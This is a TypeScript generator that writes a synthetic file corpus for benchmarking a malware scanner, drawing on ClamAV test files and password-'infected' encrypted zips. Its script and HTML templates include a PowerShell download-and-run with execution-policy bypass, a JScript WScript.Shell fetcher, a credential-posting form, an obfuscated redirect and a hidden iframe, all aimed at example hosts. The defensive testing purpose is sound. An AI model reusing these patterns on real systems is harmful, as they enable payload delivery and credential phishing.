/**
 * A mixed corpus for the scan benchmark, generated at run time into a temporary directory: plain
 * text (some with links and addresses), scripts, small PEs from /usr/share/clamav-testfiles (each
 * made unique by a random overlay), other ClamAV test formats, zips (deflated, nested, AES-encrypted
 * with the password `infected` by the 7z command line), random data and HTML pages. Nothing here is
 * live malware: the ClamAV files only carry ClamAV's harmless test signature.
 */
import { execFile } from 'node:child_process';
import { randomBytes, randomInt } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdir, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { zipArchive } from '../src/engine/testing/zip-writer';

const run = promisify(execFile);
export const CLAMAV_TESTFILES = '/usr/share/clamav-testfiles';

export interface CorpusFile {
  name: string;
  kind: 'text' | 'script' | 'pe' | 'clamav-other' | 'zip' | 'random' | 'html';
  data: Buffer;
}

const WORDS = (
  'the quarterly budget meeting report figures revenue forecast customer invoice delivery schedule project team review ' +
  'approved pending contract supplier warehouse shipment order payment account balance summary minutes agenda action ' +
  'item owner deadline status update risk issue resolved milestone release server network backup policy audit'
).split(' ');

const pick = <T>(list: readonly T[]) => list[randomInt(list.length)];

function prose(bytes: number): string {
  const lines: string[] = [];
  let size = 0;
  while (size < bytes) {
    const n = 6 + randomInt(12);
    const line = `${Array.from({ length: n }, () => pick(WORDS)).join(' ')}.`;
    lines.push(line[0].toUpperCase() + line.slice(1));
    size += line.length + 1;
  }
  return `${lines.join('\n')}\n`;
}

function textFile(i: number): CorpusFile {
  let body = prose(500 + randomInt(20_000));
  if (i % 3 === 0) {
    body += `\nSee https://portal-${i}.example.com/docs/q${i}.pdf and mail ops-${i}@example.org; mirror at http://198.51.100.${i % 250}/files/\n`;
  }
  return { name: `notes-${i}.txt`, kind: 'text', data: Buffer.from(body) };
}

const SCRIPTS: { ext: string; body: (i: number) => string }[] = [
  { ext: 'ps1', body: (i) => `$u = "https://updates-${i}.example.net/agent.ps1"\nInvoke-WebRequest -Uri $u -OutFile "$env:TEMP\\agent-${i}.ps1"\nStart-Process powershell -ArgumentList "-ExecutionPolicy Bypass -File $env:TEMP\\agent-${i}.ps1"\n` },
  { ext: 'js', body: (i) => `var sh = new ActiveXObject("WScript.Shell");\nvar x = new ActiveXObject("MSXML2.XMLHTTP");\nx.open("GET", "http://cdn-${i}.example.com/p.bin", false);\nx.send();\nsh.Run("cmd /c echo ${i}", 0);\n` },
  { ext: 'vbs', body: (i) => `Set sh = CreateObject("WScript.Shell")\nsh.Run "notepad.exe report-${i}.txt", 1, False\nMsgBox "done ${i}"\n` },
  { ext: 'bat', body: (i) => `@echo off\nset TARGET=%TEMP%\\job-${i}\nmkdir %TARGET%\ncopy *.log %TARGET%\necho finished ${i}\n` },
  { ext: 'sh', body: (i) => `#!/bin/sh\nset -e\nfor f in /var/log/app-${i}/*.log; do gzip -9 "$f"; done\ncurl -fsS https://hooks-${i}.example.com/rotated\n` },
  { ext: 'py', body: (i) => `import os, sys\n\ndef main():\n    for root, _, files in os.walk(sys.argv[1]):\n        print(root, len(files), ${i})\n\nif __name__ == "__main__":\n    main()\n` },
];

function scriptFile(i: number): CorpusFile {
  const script = SCRIPTS[i % SCRIPTS.length];
  return { name: `task-${i}.${script.ext}`, kind: 'script', data: Buffer.from(`${script.body(i)}# ${randomBytes(6).toString('hex')}\n`) };
}

function htmlFile(i: number): CorpusFile {
  const links = Array.from({ length: 3 + randomInt(8) }, (_, k) => `<li><a href="https://site-${i}-${k}.example.com/page?id=${k}">${pick(WORDS)}</a></li>`).join('\n');
  const extra =
    i % 4 === 0
      ? `<form action="http://login-${i}.example.net/verify" method="post"><input type="password" name="pw"></form>`
      : i % 4 === 1
        ? `<script>document.write(unescape("%3Cb%3E${i}%3C/b%3E")); window.location = "https://redirect-${i}.example.org/";</script>`
        : i % 4 === 2
          ? `<iframe src="https://frame-${i}.example.com/" width="1" height="1"></iframe>`
          : '';
  const html = `<!doctype html>\n<html><head><meta charset="utf-8"><title>Page ${i}</title></head>\n<body>\n<h1>${prose(60)}</h1>\n<p>${prose(400 + randomInt(3000))}</p>\n<ul>\n${links}\n</ul>\n${extra}\n</body></html>\n`;
  return { name: `page-${i}.html`, kind: 'html', data: Buffer.from(html) };
}

function randomFile(i: number): CorpusFile {
  return { name: `blob-${i}.bin`, kind: 'random', data: randomBytes(4096 + randomInt(60 * 1024)) };
}

function deflatedZip(i: number): CorpusFile {
  const members = Array.from({ length: 2 + randomInt(3) }, (_, k) => {
    const m = k % 3 === 0 ? textFile(i * 10 + k) : k % 3 === 1 ? scriptFile(i * 10 + k) : htmlFile(i * 10 + k);
    return { name: `docs/${m.name}`, data: m.data, method: 'deflate' as const };
  });
  if (i % 5 === 0) {
    // zip in a zip
    const inner = zipArchive([{ name: 'inner/readme.txt', data: Buffer.from(prose(2000)), method: 'deflate' }]);
    members.push({ name: 'bundle/inner.zip', data: Buffer.from(inner), method: 'deflate' });
  }
  return { name: `archive-${i}.zip`, kind: 'zip', data: Buffer.from(zipArchive(members)) };
}

async function encryptedZip(i: number, dir: string): Promise<CorpusFile> {
  const work = join(dir, `enc-${i}`);
  await mkdir(work);
  await writeFile(join(work, `statement-${i}.txt`), prose(1000 + randomInt(5000)));
  await writeFile(join(work, `run-${i}.vbs`), SCRIPTS[2].body(i));
  await run('7z', ['a', '-tzip', '-mem=AES256', '-pinfected', '-bd', '-y', 'out.zip', `statement-${i}.txt`, `run-${i}.vbs`], { cwd: work });
  const data = await readFile(join(work, 'out.zip'));
  await rm(work, { recursive: true, force: true });
  return { name: `encrypted-${i}.zip`, kind: 'zip', data };
}

/** PEs (and, as `clamav-other`, the other formats) of the ClamAV test files up to `maxBytes`. */
async function clamavFiles(maxBytes: number): Promise<{ pes: CorpusFile[]; others: CorpusFile[] }> {
  const pes: CorpusFile[] = [];
  const others: CorpusFile[] = [];
  if (!existsSync(CLAMAV_TESTFILES)) return { pes, others };
  for (const name of (await readdir(CLAMAV_TESTFILES)).sort()) {
    const path = join(CLAMAV_TESTFILES, name);
    const info = await stat(path);
    if (!info.isFile() || info.size > maxBytes) continue;
    const data = await readFile(path);
    const isPe = data.length > 64 && data[0] === 0x4d && data[1] === 0x5a;
    (isPe ? pes : others).push({ name, kind: isPe ? 'pe' : 'clamav-other', data });
  }
  return { pes, others };
}

/**
 * At least `minimum` files (default 220), shuffled. PEs are repeated with a random overlay so that
 * every submission is distinct content.
 */
export async function buildCorpus(dir: string, minimum = 220): Promise<{ files: CorpusFile[]; counts: Record<string, number>; bytes: number }> {
  const files: CorpusFile[] = [];
  const { pes, others } = await clamavFiles(300 * 1024);
  for (let i = 0; i < 50; i++) files.push(textFile(i));
  for (let i = 0; i < 30; i++) files.push(scriptFile(i));
  for (let i = 0; i < 30 && pes.length; i++) {
    const pe = pes[i % pes.length];
    files.push({ name: `${i}-${pe.name}`, kind: 'pe', data: Buffer.concat([pe.data, randomBytes(32)]) });
  }
  files.push(...others);
  for (let i = 0; i < 30; i++) files.push(deflatedZip(i));
  for (let i = 0; i < 10; i++) files.push(await encryptedZip(i, dir));
  for (let i = 0; i < 30; i++) files.push(randomFile(i));
  for (let i = 0; i < 30; i++) files.push(htmlFile(i));
  for (let i = 0; files.length < minimum; i++) files.push(textFile(1000 + i));
  // Shuffle (Fisher-Yates) so that kinds interleave as they would in real traffic.
  for (let i = files.length - 1; i > 0; i--) {
    const j = randomInt(i + 1);
    [files[i], files[j]] = [files[j], files[i]];
  }
  await mkdir(join(dir, 'corpus'), { recursive: true });
  await Promise.all(files.map((f, i) => writeFile(join(dir, 'corpus', `${String(i).padStart(3, '0')}-${f.name}`), f.data)));
  const counts: Record<string, number> = {};
  for (const f of files) counts[f.kind] = (counts[f.kind] ?? 0) + 1;
  return { files, counts, bytes: files.reduce((n, f) => n + f.data.length, 0) };
}
